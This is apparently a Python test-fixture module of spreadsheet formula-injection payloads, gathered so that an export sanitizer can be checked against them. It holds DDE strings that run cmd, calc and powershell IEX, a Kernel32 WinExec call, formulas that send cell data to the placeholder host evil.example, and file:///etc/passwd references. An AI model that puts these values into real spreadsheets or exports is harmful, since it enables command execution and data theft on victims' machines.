"""Texts that spreadsheets calculate, link or run: what hostile people put into names (luca 2021, OWASP, DDE)."""

from __future__ import annotations

_BARE = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "=2+5+cmd|'/C calc'!'A1'", "-2+3+cmd|'/C calc'!A0",
    "+cmd|'/C powershell IEX(1)'!A1", "@SUM(1+1)*cmd|'/C calc'!A0", "|calc", "||=1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example/\",\"//a\")", "=IMPORTDATA(\"http://evil.example/\")", "=IMAGE(\"http://evil.example/\")",
    "=FILTERXML(WEBSERVICE(\"http://evil.example\"),\"/\")", "='file:///etc/passwd'#$passwd.A1", "=INFO(\"directory\")",
    "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "=EXEC(\"calc\")", "=RTD(\"x\",,\"y\")", "=INDIRECT(\"A1\")",
    "={1;2}", "==1", "=-1", "+-+-1", "--1", "@@x", "=\"a\"&\"b\"", "=A1", "=R1C1", "=1\n=2", "=SUM(1;2)", "=rand()",
)  # fmt: skip
_HIDDEN = (
    " =1", "   =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\u200d\u2060=1", "\u202e=1", "\u00ad=1",
    "\u180e=1",
    "\x01=1", "\x0b=1", "\x1f=1", "\x85=1", "\u2028=1", "\ufe0f=1", "\u3164=1", "\u034f=1", " \u200b \ufeff+1",
)  # fmt: skip
_OTHER_FORMS = (
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫x",
    "⁼1",
    "⁺1",
    "⁻1",
    "₌1",
    "₊1",
    "₋1",
    "−1",
    "⩵1",
)
_SPACES = ("\t=1", "\r=1", "\n=1", "\x00=1", "\t", "\r\n=1", "\t\t@x", "\n")
_QUOTED = ("'=1", "''=1", "' =1", "'\t", "'＝1", "''''@x", '"=1', '",=1,"', '";=1;"', '\n"=1"')
_RAW_XML = (
    "<r><t>=1</t></r>",
    "<r></t></si><si><t>=1</t></r>",
    "]]><f>1+1</f>",
    "<f>1+1</f>",
    "_x003D_1+1",
    "_x0041_x0042_",
)
_LINKS = (
    "http://evil.example/", "https://evil.example", "ftp://evil.example", "mailto:a@evil.example", "internal:Sheet1!A1",
    "external:c:\\evil.xlsx", "file:///etc/passwd", "\\\\evil.example\\share", "{=1+1}", "%0A=1", "\\=1", "1e5", "0123",
)  # fmt: skip

FORMULAS = (*_BARE, *_HIDDEN, *_OTHER_FORMS, *_SPACES)  # each has to be guarded
PAYLOADS = (*FORMULAS, *_QUOTED, *_RAW_XML, *_LINKS)  # none may become a formula or a link
